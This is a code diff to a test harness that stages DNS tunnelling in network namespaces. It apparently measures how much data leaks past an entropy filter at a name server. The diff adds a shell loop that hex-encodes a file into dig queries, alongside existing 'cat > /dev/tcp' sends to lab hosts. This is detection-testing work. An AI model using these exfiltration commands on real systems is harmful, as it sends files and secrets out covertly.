@@ -14,7 +14,7 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from contextlib import contextmanager
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 from typing import Any
 
@@ -28,6 +28,7 @@ _SINK, _ENTRY = 9000, 2222
 _PASSWORD = "letmein"
 FILE = 100_000
 """Octets of the file."""
+HEX_FILE = 2048
 TRICKLE = 20
 """Lines of the chat, of some 20 octets, five a second."""
 
@@ -48,6 +49,8 @@ TOOLS = (
     *(Tool("iodine", qtype, lazy) for qtype in ("NULL", "TXT", "CNAME", "A") for lazy in ((), ("-L0",))),
     *(Tool("dns2tcp", qtype) for qtype in ("TXT", "KEY")),
 )
+HEX = Tool("hex", "A")
+"""Not a tunnel but a loop in a shell: 16 octets of a file, in hexadecimal, in each name."""
 
 
 @dataclass(frozen=True)
@@ -98,6 +101,8 @@ class Lab:
 
         `patience` is how long the tool may take to set the tunnel up, and again for each transfer.
         """
+        if tool is HEX:
+            return self._hex(server, patience)
         if not (self._iodine if tool.program == "iodine" else self._dns2tcp)(tool, server, patience):
             return self.leak(established=False)
         target = f"10.99.0.1/{_SINK}" if tool.program == "iodine" else f"127.0.0.1/{_ENTRY}"
@@ -108,6 +113,27 @@ class Lab:
         self._send(f"cat {data} > /dev/tcp/{target}", FILE, patience)
         self._send(f"({chat}) > /dev/tcp/{target}", FILE + said, patience)
         return self.leak(established=tool.program == "iodine" or self.arrived() > 0)
+
+    def _hex(self, server: str, patience: float) -> Leak:
+        """Ask for names with HEX_FILE octets in them; what came out is what the name server could read."""
+        self._authority()
+        data = self.folder / "file"
+        data.write_bytes(random.Random(1).randbytes(HEX_FILE))
+        ask = f"dig @{server} +tries=1 +time=2"
+        process = self.inside.start(
+            *("bash", "-c", f"od -An -v -tx1 -w16 {data} | tr -d ' ' | while read l; do {ask} $l.{_TUNNEL}; done"),
+            log="hex.log",
+        )
+        wait_until(lambda: process.poll() is not None, "the last name", patience * 4)
+        found = self.leak(established=False)
+        names = {line["name"].partition(".")[0].lower() for line in self.lines() if line["event"] == "question"}
+        return replace(found, arrived=sum(len(name) // 2 for name in names))
+
+    def _authority(self) -> None:
+        self.outside.start(
+            *("iodined", "-f", "-c", "-P", _PASSWORD, "-l", AUTHORITY, "10.99.0.1/24", _TUNNEL), log="iodined.log"
+        )
+        wait_until(lambda: "Listening to dns" in self._log("iodined.log"), "iodined to listen")
 
     def _send(self, script: str, total: int, patience: float) -> None:
         """Send something and wait for it to arrive, but not longer than that."""
@@ -121,10 +147,7 @@ class Lab:
             process.wait()
 
     def _iodine(self, tool: Tool, server: str, patience: float) -> bool:
-        self.outside.start(
-            *("iodined", "-f", "-c", "-P", _PASSWORD, "-l", AUTHORITY, "10.99.0.1/24", _TUNNEL), log="iodined.log"
-        )
-        wait_until(lambda: "Listening to dns" in self._log("iodined.log"), "iodined to listen")
+        self._authority()
         client = self.inside.start(
             *("iodine", "-f", "-r", "-P", _PASSWORD, "-T", tool.qtype, *tool.options, server, _TUNNEL),
             log="iodine.log",
@@ -159,8 +182,8 @@ class Lab:
 
 
 @contextmanager
-def lab(folder: Path, name: str) -> Iterator[Lab]:
-    """Make the namespaces, and remove them."""
+def lab(folder: Path, name: str, *, entropy: tuple[float, int] | None = None) -> Iterator[Lab]:
+    """Make the namespaces, and remove them. `entropy` is a filter at the name server: bits a character and length."""
     worlds = []
     for side in ("in", "out"):
         namespace = f"{name}-{side}"
@@ -183,7 +206,7 @@ def lab(folder: Path, name: str) -> Iterator[Lab]:
         for address in (UPSTREAM, AUTHORITY):
             outside.run("ip", "address", "add", f"{address}/32", "dev", "lo")
         inside.run("ip", "route", "add", "default", "via", RESOLVER)
-        spec = {"listen": UPSTREAM, "zones": {_TUNNEL: [AUTHORITY, 53]}, "sink": _SINK}
+        spec = {"listen": UPSTREAM, "zones": {_TUNNEL: [AUTHORITY, 53]}, "sink": _SINK, "filter": entropy}
         (folder / "spec.json").write_text(json.dumps({**spec, "log": str(folder / "far.jsonl")}))
         outside.start(sys.executable, "tests/peers/tunnel_far_end.py", str(folder / "spec.json"), log="far.log")
         wait_until(lambda: "ready" in (outside.folder / "far.log").read_text(), "the far end to listen")
